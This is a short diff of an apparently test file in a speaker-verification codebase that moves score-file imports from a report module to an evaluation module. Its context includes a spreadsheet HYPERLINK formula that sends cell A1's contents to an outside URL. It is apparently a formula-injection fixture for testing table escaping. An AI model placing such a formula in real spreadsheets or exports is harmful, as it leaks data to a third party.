@@ -15,10 +15,10 @@ from hypothesis import strategies as st
 from xvectors.corpus import Manifest, ScanReport
 from xvectors.corpus.findings import Reason
 from xvectors.corpus.scanning import Remark, read_left_out
+from xvectors.evaluation import score_files
+from xvectors.evaluation.score_files import read_scores
 from xvectors.files.tables import Table, protected, restored, write_table
-from xvectors.report import score_files
 from xvectors.report.outputs import write_scores
-from xvectors.report.score_files import read_scores
 from xvectors.trials import Trials, read_trials, write_trials
 
 LINK = '=HYPERLINK("http://example.org/?"&A1,"open")'
